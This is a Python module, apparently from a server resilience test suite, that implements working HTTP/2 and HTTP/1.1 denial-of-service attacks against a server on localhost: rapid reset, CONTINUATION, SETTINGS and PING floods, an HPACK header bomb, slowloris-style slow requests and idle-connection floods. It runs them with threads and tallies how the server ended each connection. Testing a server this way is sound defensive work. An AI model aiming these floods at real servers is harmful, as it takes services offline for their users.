"""What floods.py sends: connections that cost a server more than whoever opens them.

Each attack is a generator of what one connection sends, piece by piece; the runner keeps so many of them going, begins
floods anew where they are ended, and says how they ended.
"""

import itertools
import select
import socket
import ssl
import threading
import time
from collections import Counter
from dataclasses import dataclass
from typing import Callable

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
THREADS = 4
# The connections of an attack are there after so many seconds, or there are fewer of them.
OPENING = 20


def frame(kind, flags=0, stream=0, content=b""):
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def text(value):
    """A string without Huffman coding (RFC 7541 section 5.2)."""
    length, coded = len(value), bytearray()
    if length < 127:
        coded.append(length)
    else:
        coded.append(127)
        length -= 127
        while length >= 128:
            coded.append(length % 128 + 128)
            length //= 128
        coded.append(length)
    return bytes(coded) + value


def field(name, value):
    return b"\x00" + text(name) + text(value)


def head(method=b"GET", path=b"/"):
    fields = [(b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path)]
    return b"".join(field(*one) for one in fields)


def settings(**values):
    known = {"table": 1, "streams": 3, "window": 4}
    content = b"".join(known[name].to_bytes(2, "big") + value.to_bytes(4, "big") for name, value in values.items())
    return PREFACE + frame(SETTINGS, content=content)


def streams():
    return itertools.count(1, 2)


def for_ever(first, again, frames):
    yield first, 1
    while True:
        yield again, frames


def rapid_reset():
    yield settings(), 1
    numbers = streams()
    while True:
        some = [next(numbers) for _ in range(100)]
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, one, head()) + frame(RST_STREAM, 0, one, b"\0\0\0\x08")
                       for one in some), 200


def continuations():
    begun = settings() + frame(HEADERS, END_STREAM, 1, head())
    return for_ever(begun, frame(CONTINUATION, 0, 1, field(b"x", b"y" * 8000)) * 4, 4)


def empty_continuations():
    begun = settings() + frame(HEADERS, END_STREAM, 1, head())
    return for_ever(begun, frame(CONTINUATION, 0, 1) * 1000, 1000)


def settings_flood():
    return for_ever(settings(), frame(SETTINGS, content=b"\0\4\0\0\xff\xff") * 200, 200)


def pings():
    return for_ever(settings(), frame(PING, content=b"12345678") * 500, 500)


def window_updates():
    begun = settings() + frame(HEADERS, END_HEADERS, 1, head(b"POST"))
    return for_ever(begun, frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 500, 500)


def priorities():
    return for_ever(settings(), frame(PRIORITY, 0, 1, b"\0\0\0\3\1") * 500, 500)


def empty_data():
    begun = settings() + frame(HEADERS, END_HEADERS, 1, head(b"POST"))
    return for_ever(begun, frame(DATA, 0, 1) * 500, 500)


def header_bomb():
    """A field of 4000 bytes for the table, and then the byte that stands for it again and again."""
    bomb = head() + b"\x40" + text(b"x") + text(b"y" * 4000)
    yield settings(), 1
    for number in streams():
        block = bomb if number == 1 else head()
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block + b"\xbe" * (16_000 - len(block))), 1


def no_window():
    """A hundred large answers that may not be sent; now and then a byte of each may."""
    asked = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, number, head(path=b"/down/1m.bin"))
                     for number in itertools.islice(streams(), 100))
    yield settings(window=0) + asked, 101
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, number, b"\0\0\0\1") for number in range(1, 200, 20)), 10


def streams_without_end():
    """Requests whose bodies never come, ten times more of them than any server allows at once."""
    yield settings(), 1
    for number in itertools.islice(streams(), 1000):
        yield frame(HEADERS, END_HEADERS, number, head(b"POST", b"/up")), 1
    while True:
        yield b"", 0


def slow_head():
    yield b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ", 1
    while True:
        yield b"y", 1


def slow_head_2():
    yield settings() + frame(HEADERS, END_STREAM, 1, head()) + (8000).to_bytes(3, "big") + bytes([CONTINUATION, 0, 0, 0, 0, 1]), 2
    while True:
        yield b"\0", 1


def slow_body():
    yield b"POST /up HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n", 1
    while True:
        yield b"y", 1


def slow_reading():
    """Large answers, one after another, and nobody who takes them."""
    ask = b"GET /down/1m.bin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    yield ask * 20, 20
    while True:
        yield b"", 0


def nothing():
    while True:
        yield b"", 0


@dataclass
class Attack:
    name: str
    sends: Callable
    # The frames that the control must have counted, or "connections", or "bytes".
    counts: str
    connections: int = 8
    alpn: str = "h2"
    # Without TLS not even a handshake begins.
    tls: bool = True
    reads: bool = True
    # Between two pieces, in seconds; a flood that is ended begins anew, what is slow does not.
    pause: float = 0
    # Whether the server has to end it within the time that it gets, or may go on with it at little cost.
    must_end: bool = True


ATTACKS = [
    Attack("rapid reset (CVE-2023-44487)", rapid_reset, "RST_STREAM"),
    Attack("CONTINUATION without end (CVE-2024-27316)", continuations, "CONTINUATION"),
    Attack("CONTINUATION with nothing in it", empty_continuations, "CONTINUATION"),
    Attack("SETTINGS flood (CVE-2019-9515)", settings_flood, "SETTINGS"),
    Attack("SETTINGS flood, answers not read", settings_flood, "SETTINGS", reads=False),
    Attack("PING flood (CVE-2019-9512)", pings, "PING"),
    Attack("PING flood, answers not read", pings, "PING", reads=False),
    Attack("WINDOW_UPDATE flood", window_updates, "WINDOW_UPDATE"),
    Attack("PRIORITY flood (CVE-2019-9513)", priorities, "PRIORITY"),
    Attack("DATA with nothing in it (CVE-2019-9518)", empty_data, "DATA"),
    Attack("header bomb (HPACK)", header_bomb, "HEADERS"),
    Attack("100 large answers, no window (CVE-2019-9511)", no_window, "HEADERS", pause=0.5, must_end=False),
    Attack("1,000 streams whose bodies never come", streams_without_end, "HEADERS", pause=0.001, must_end=False),
    Attack("slow heads, HTTP/1.1", slow_head, "bytes", 500, "http/1.1", pause=0.5),
    Attack("slow heads, HTTP/2", slow_head_2, "bytes", 500, pause=0.5),
    Attack("slow bodies", slow_body, "bytes", 500, "http/1.1", pause=0.5),
    Attack("large answers that nobody reads", slow_reading, "bytes", 100, "http/1.1", reads=False, pause=0.5, must_end=False),
    Attack("2,000 connections that shake hands and say nothing", nothing, "connections", 2000, pause=0.5),
    Attack("10,000 connections that say nothing at all", nothing, "", 10_000, tls=False, pause=0.5),
]


class Line:
    """One connection of an attack."""

    def __init__(self, attack, port, context):
        self.attack, self.pieces, self.heard, self.ended = attack, attack.sends(), b"", None
        tcp = socket.create_connection(("127.0.0.1", port), 10)
        if not attack.reads:
            tcp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.stream = context.wrap_socket(tcp, server_hostname="localhost") if attack.tls else tcp
        # Who does not read is told nothing, so a server that waits for them must not hold the attack up for long.
        self.stream.settimeout(1)

    def send(self):
        """How many frames were sent."""
        piece, frames = next(self.pieces)
        try:
            if piece:
                self.stream.sendall(piece)
            self.hear()
            return frames
        except TimeoutError:
            # Its window is full: from now on it only waits for the end.
            self.pieces = nothing()
            return 0
        except (OSError, ValueError):
            self.hear()
            self.ended = self.ended or "reset"
            return 0

    def hear(self):
        if self.ended:
            return
        try:
            if not self.attack.reads:
                # Looks whether the connection is gone without reading from it.
                if self.is_there(select.POLLHUP | select.POLLERR | select.POLLRDHUP):
                    self.ended = "closed"
                return
            pending = self.attack.tls and self.stream.pending()
            while pending or self.is_there(select.POLLIN):
                part = self.stream.recv(65536)
                if not part:
                    self.ended = self.ended or "closed"
                    return
                self.follow(part)
                pending = self.attack.tls and self.stream.pending()
        except TimeoutError:
            pass
        except (OSError, ValueError):
            self.ended = self.ended or "reset"

    def is_there(self, event):
        # `select` knows no more than 1024 files.
        poll = select.poll()
        poll.register(self.stream, event)
        return bool(poll.poll(0))

    def follow(self, part):
        if self.attack.alpn != "h2":
            if part.startswith(b"HTTP/1.1 "):
                self.ended = self.ended or f"{part[9:12].decode('latin-1')}"
            return
        self.heard += part
        while len(self.heard) >= 9 + (length := int.from_bytes(self.heard[:3], "big")):
            if self.heard[3] == GOAWAY:
                self.ended = f"GOAWAY {int.from_bytes(self.heard[13:17], 'big')}"
            self.heard = self.heard[9 + length:]

    def close(self):
        self.stream.close()


def run(attack, port, seconds):
    """Opens the connections of an attack and keeps them going for so long; counts connections, frames, and how
    connections ended."""
    seen, lock = Counter(), threading.Lock()
    opened_by = time.monotonic() + OPENING
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([attack.alpn])

    def begin(count, lines):
        try:
            lines.append(Line(attack, port, context))
            count["opened"] += 1
        except OSError:
            count["not let in"] += 1

    def say(line, count, lines):
        count["frames"] += line.send()
        if line.ended:
            count[f"ended: {line.ended}"] += 1
            lines.remove(line)
            line.close()
            if not attack.pause:
                begin(count, lines)

    def go_on(share):
        count, lines = Counter(), []
        try:
            for _ in range(share):
                if time.monotonic() < opened_by:
                    begin(count, lines)
                    if lines:
                        say(lines[-1], count, lines)
            until = time.monotonic() + seconds
            while time.monotonic() < until and lines:
                for line in list(lines):
                    say(line, count, lines)
                    if time.monotonic() >= until:
                        break
                time.sleep(attack.pause)
            count["open"] += len(lines)
        finally:
            for line in lines:
                line.close()
            with lock:
                seen.update(count)

    shares = [attack.connections // THREADS + (number < attack.connections % THREADS) for number in range(THREADS)]
    threads = [threading.Thread(target=go_on, args=(share,)) for share in shares if share]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return dict(seen)
